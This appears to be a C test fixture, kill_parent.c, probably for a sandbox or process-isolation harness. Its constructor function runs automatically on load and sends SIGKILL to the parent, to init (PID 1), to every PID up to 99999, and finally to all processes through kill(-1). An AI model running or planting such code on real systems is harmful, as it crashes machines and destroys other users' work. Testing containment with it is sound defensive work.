/*
 * kill_parent.c - kills its parent, its group and whatever else it may; then
 * it serves.
 * expects: any
 */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void kill_all(void)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    for (pid_t pid = 2; pid < 100000; pid++) {
        if (pid != getpid()) {
            kill(pid, SIGKILL);
        }
    }
    if (fork() == 0) {
        kill(-1, SIGKILL); /* all but itself; its parent, too */
        _exit(0);
    }
}
